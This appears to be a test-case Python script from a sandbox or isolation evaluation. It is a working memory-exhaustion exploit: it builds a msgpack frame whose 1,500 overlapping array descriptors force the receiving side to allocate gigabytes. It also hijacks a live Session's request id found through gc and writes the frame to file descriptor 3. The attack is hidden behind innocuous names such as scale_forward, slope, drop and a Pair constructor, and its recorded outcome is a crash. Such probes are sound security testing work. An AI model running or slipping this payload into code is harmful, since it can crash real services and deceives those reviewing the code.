"""Sends one small header whose thousand arrays all lie over the same bytes, each to be spread out to
twice its size: gigabytes on our side. Arrays of a frame must not overlap.
"""
# row: own
# layer: W
# outcome: crashed

import struct

msgpack = borrow("msgpack")
session = next(o for o in gc.get_objects() if type(o).__name__ == "Session")


def total(x):
    size = 2**22
    array = msgpack.ExtType(1, struct.pack("<BBBQ1Q", 11, 2, 1, 0, size // 8))
    head = msgpack.packb((7, session._request_id, [array] * 1500, {}, "", msgpack.ExtType(0, b"\x90")))
    os.write(3, struct.pack("<IQ", len(head), size) + head)
    body = memoryview(bytes(size))
    while body:
        body = body[os.write(3, body):]
    time.sleep(5)


scale_forward = slope = drop = lambda x, *rest: total(x)


class Pair:
    def __init__(self, data):
        total(data)
